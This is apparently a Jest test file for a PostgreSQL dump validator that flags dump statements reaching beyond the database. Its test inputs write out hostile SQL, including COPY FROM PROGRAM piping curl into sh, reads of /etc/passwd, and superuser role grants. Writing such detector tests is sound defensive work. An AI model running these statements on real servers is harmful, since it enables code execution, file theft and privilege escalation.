import { readFileSync } from 'node:fs';
import { describe, expect, it } from '@jest/globals';
import { proveDump } from '../../../src/core/database/dump-proof.ts';
import { codeOf, pieces, textOf } from './dump-pieces.ts';

const fixture = (name: string) => readFileSync(new URL(`../../fixtures/dumps/${name}`, import.meta.url));
const prove = (bytes: Uint8Array | string, allowUnsafe = false) =>
  proveDump(pieces(Buffer.from(bytes), 1000), {
    name: 'x.sql',
    format: 'plain',
    allowUnsafe,
    digest: () => ({ sha256: 'hash', bytes: bytes.length }),
  });
const table = 'CREATE TABLE public.t (\n    a text\n);\n\nCOPY public.t (a) FROM stdin;\n1\n\\.\n\n';
const unsafeOf = async (statement: string) =>
  (await prove(textOf(`${table}${statement}`), true)).unsafe.map(({ what, line }) => `${line} ${what}`);

describe('what a dump holds', () => {
  const rows = {
    'public.child': 0,
    'public.empty_table': 0,
    'public.measures_2026': 2,
    'public.no_columns': 1,
    'public.one_column': 8,
    '"odd; schema"."Weird; ""Name"" -- x"': 7,
  };

  it.each(['hostile.sql', 'hostile.inserts.sql', 'hostile.rows-per-insert.sql', 'hostile.clean.sql'])(
    '%s',
    async (name) => {
      const bytes = fixture(name);
      expect(await prove(bytes)).toMatchObject({
        format: 'plain',
        sha256: 'hash',
        textBytes: bytes.length,
        serverMajor: 15,
        dumpedBy: 'pg_dump version 15.18',
        encoding: 'UTF8',
        rows,
        tablesWithoutData: [],
        roles: ['app_owner', 'app_reader', 'postgres'],
        extensions: ['pg_trgm'],
        schemas: ['odd; schema', 'public'],
        unsafe: [],
        cleans: name.includes('clean'),
      });
      expect(Object.keys((await prove(bytes)).rows)).toHaveLength(6);
    },
  );

  it('names tables whose rows were left out', async () => {
    const dump = textOf(`${table}CREATE TABLE public.log (a text);`);
    expect(await prove(dump)).toMatchObject({
      rows: { 'public.t': 1, 'public.log': 0 },
      tablesWithoutData: ['public.log'],
    });
  });

  it('finds roles wherever they are named', async () => {
    const statements = [
      'ALTER TABLE public.t OWNER TO "Own; er";',
      'GRANT SELECT(a),UPDATE ON TABLE public.t TO reader WITH GRANT OPTION;',
      'GRANT ALL ON SCHEMA public TO PUBLIC;',
      'REVOKE ALL ON TABLE public.t FROM gone;',
      'ALTER DEFAULT PRIVILEGES FOR ROLE maker IN SCHEMA public GRANT SELECT ON TABLES TO taker;',
      'CREATE POLICY p ON public.t TO one, two USING (true);',
      'CREATE SCHEMA s AUTHORIZATION keeper;',
    ];
    expect((await prove(textOf(`${table}${statements.join('\n')}`))).roles).toEqual(
      ['Own; er', 'reader', 'gone', 'maker', 'taker', 'one', 'two', 'keeper'].sort(),
    );
  });
});

describe('D29: a dump that would leave nothing', () => {
  it.each([
    ['small.schema-only.sql', /rows of none \(pg_dump --schema-only\)/],
    ['small.data-only.sql', /creates no table \(pg_dump --data-only\)/],
  ])('%s', async (name, message) => {
    await expect(prove(fixture(name))).rejects.toMatchObject({
      code: 'DUMP_EMPTY',
      message: expect.stringMatching(message),
    });
  });

  it('of an empty database, or of nothing', async () => {
    expect(await codeOf(prove(textOf('SET lock_timeout = 0;')))).toBe('DUMP_EMPTY');
    expect(await codeOf(prove(''))).toBe('DUMP_EMPTY');
  });
});

describe('D22: a dump that is not of one database', () => {
  it.each([
    ['small.create.sql', /CREATE DATABASE.*--create/],
    ['cluster.sql', /pg_dumpall/],
  ])('%s', async (name, message) => {
    await expect(prove(fixture(name), true)).rejects.toMatchObject({
      code: 'DUMP_FOREIGN',
      message: expect.stringMatching(message),
    });
  });
});

describe('D21, D27: statements that reach beyond the database', () => {
  it.each([
    ["COPY public.t FROM PROGRAM 'curl x | sh';", 'COPY FROM PROGRAM'],
    ["copy public.t (a) to program 'sh';", 'COPY TO PROGRAM'],
    ["COPY public.t FROM '/etc/passwd';", 'COPY FROM a file of the server'],
    ["COPY (SELECT 1) TO '/tmp/x';", 'COPY TO a file of the server'],
    ["ALTER SYSTEM SET archive_command = 'sh';", 'ALTER SYSTEM SET'],
    ['CREATE ROLE evil SUPERUSER;', 'CREATE ROLE evil (a role of the server)'],
    ['CREATE USER evil;', 'CREATE USER evil (a role of the server)'],
    ['ALTER ROLE app SUPERUSER;', 'ALTER ROLE app'],
    ['DROP ROLE app;', 'DROP ROLE app'],
    ['GRANT pg_execute_server_program TO app;', 'GRANT of the role pg_execute_server_program'],
    ['GRANT SET ON PARAMETER log_statement TO app;', 'GRANT on a parameter of the server'],
    ["CREATE FUNCTION public.f() RETURNS int LANGUAGE c AS 'lib', 'f';", 'CREATE FUNCTION public.f in language c'],
    [
      "CREATE OR REPLACE FUNCTION f(a int DEFAULT 1) RETURNS int AS 'lib', 'f' LANGUAGE 'C';",
      'CREATE FUNCTION f in language c',
    ],
    ['CREATE FUNCTION f() RETURNS int LANGUAGE internal AS $$x$$;', 'CREATE FUNCTION f in language internal'],
    ['CREATE PROCEDURE f() LANGUAGE plpython3u AS $$import os$$;', 'CREATE PROCEDURE f in language plpython3u'],
    ['CREATE EXTENSION IF NOT EXISTS dblink WITH SCHEMA public;', 'CREATE EXTENSION dblink'],
    ['CREATE EXTENSION "postgres_fdw";', 'CREATE EXTENSION "postgres_fdw"'],
    ['CREATE SERVER s FOREIGN DATA WRAPPER w;', 'CREATE SERVER s (a connection to another server)'],
    [
      'CREATE FOREIGN TABLE public.ft (a int) SERVER s;',
      'CREATE FOREIGN TABLE public.ft (a table that lives elsewhere)',
    ],
    [
      "CREATE SUBSCRIPTION s CONNECTION 'host=x' PUBLICATION p WITH (connect = false);",
      'CREATE SUBSCRIPTION s (a connection to another server)',
    ],
    [
      'CREATE EVENT TRIGGER e ON ddl_command_end EXECUTE FUNCTION f();',
      'CREATE EVENT TRIGGER e (code that runs at each change of the schema)',
    ],
    ['CREATE OR REPLACE PROCEDURAL LANGUAGE plperlu;', 'CREATE LANGUAGE plperlu (a language of functions)'],
    ['CREATE TYPE public.b (INPUT = public.i, OUTPUT = public.o);', 'CREATE TYPE public.b with native code'],
    ["LOAD 'lib';", 'LOAD of a library'],
    ['DO $$BEGIN PERFORM 1; END$$;', 'DO (a block of code that runs at once)'],
    ['SET SESSION AUTHORIZATION postgres;', 'SET SESSION AUTHORIZATION'],
    ['SET ROLE postgres;', 'SET ROLE'],
    ["SET session_preload_libraries = 'x';", 'SET session_preload_libraries'],
    ['SELECT pg_catalog.lo_create((SELECT evil()));', 'SELECT pg_catalog.lo_create, which pg_dump never writes'],
    ["SELECT lo_import('/etc/passwd');", 'SELECT lo_import, which pg_dump never writes'],
    ["SELECT pg_catalog.setval('s', (SELECT evil()), true);", 'SELECT pg_catalog.setval, which pg_dump never writes'],
    [
      "SELECT pg_catalog.set_config('log_statement', 'none', false);",
      'SELECT pg_catalog.set_config, which pg_dump never writes',
    ],
    ["CREATE VIEW v AS SELECT pg_read_file('/etc/passwd');", 'a call of pg_read_file'],
    ['CREATE VIEW v AS SELECT "pg_read_file"(a) FROM t;', 'a call of "pg_read_file"'],
    ['INSERT INTO public.t VALUES (evil());', 'INSERT INTO public.t of computed values, which pg_dump never writes'],
    ['INSERT INTO public.t SELECT 1;', 'INSERT INTO public.t of computed values, which pg_dump never writes'],
    ['UPDATE pg_catalog.pg_authid SET rolsuper = true;', 'UPDATE, which pg_dump never writes'],
    ['WITH x AS (SELECT 1) SELECT 1;', 'WITH, which pg_dump never writes'],
    ['/* x */ CALL evil();', 'CALL, which pg_dump never writes'],
  ])('%s', async (statement, what) => {
    const found = await unsafeOf(statement);
    expect(found).toContain(`15 ${what}`);
  });

  it.each([
    "SELECT pg_catalog.set_config('search_path', '', false);",
    'SELECT pg_catalog.setval(\'public."a;b"\', 7, true);',
    "SELECT pg_catalog.lo_create('16693');",
    "SELECT pg_catalog.lo_open('16693', 131072);",
    "SELECT pg_catalog.lowrite(0, '\\x5c');",
    "SELECT pg_catalog.lo_unlink('16693');",
    "SELECT pg_catalog.lo_unlink(oid) FROM pg_catalog.pg_largeobject_metadata WHERE oid = '16693';",
    'SET default_table_access_method = heap;',
    "INSERT INTO public.t VALUES (-1.5e+10, 'a', NULL, true, B'01', E'\\\\', DEFAULT, '\\x00'), (1, 'COPY', NULL, false, X'a', '', DEFAULT, '') ON CONFLICT DO NOTHING;",
    'INSERT INTO public.t OVERRIDING SYSTEM VALUE VALUES (1);',
    'CREATE FUNCTION public.f() RETURNS int LANGUAGE plpgsql AS $$ COPY t TO PROGRAM; DO; $$;',
    "CREATE FUNCTION f() RETURNS int BEGIN ATOMIC SELECT 1 AS language, 'c'; END;",
    'CREATE TYPE public.c AS (a int);',
    'CREATE TYPE public.r AS RANGE (subtype = integer);',
    'CREATE TABLE public.program ("do" int, role int, database text);',
    "COMMENT ON TABLE public.t IS 'COPY t FROM PROGRAM ''x''; pg_read_file(1)';",
    'ALTER TABLE public."user" OWNER TO role;',
    'ALTER DEFAULT PRIVILEGES FOR ROLE a REVOKE ALL ON TABLES FROM PUBLIC;',
    'CREATE EXTENSION IF NOT EXISTS pgcrypto WITH SCHEMA public;',
    'CREATE PUBLICATION p FOR ALL TABLES;',
    'REFRESH MATERIALIZED VIEW public.m;',
  ])('is nothing of: %s', async (statement) => expect(await unsafeOf(statement)).toEqual([]));

  it('refuses all of them at once, by line, unless that is allowed', async () => {
    const dump = textOf(`${table}DO $$x$$;\nCREATE ROLE evil;`);
    await expect(prove(dump)).rejects.toMatchObject({
      code: 'DUMP_UNSAFE',
      message:
        'x.sql has 2 statement(s) that reach beyond the database: line 15: DO (a block of code that runs at once); line 16: CREATE ROLE evil (a role of the server)',
    });
    expect((await prove(dump, true)).unsafe).toHaveLength(2);
  });
});

describe('D24: lines of a newer pg_dump', () => {
  it('are no reason to refuse', async () => {
    const stats = "SELECT * FROM pg_catalog.pg_restore_relation_stats('version', '180000'::integer, 'relname', 't');";
    expect(await unsafeOf(`SET transaction_timeout = 0;\n${stats}`)).toEqual([]);
  });
});
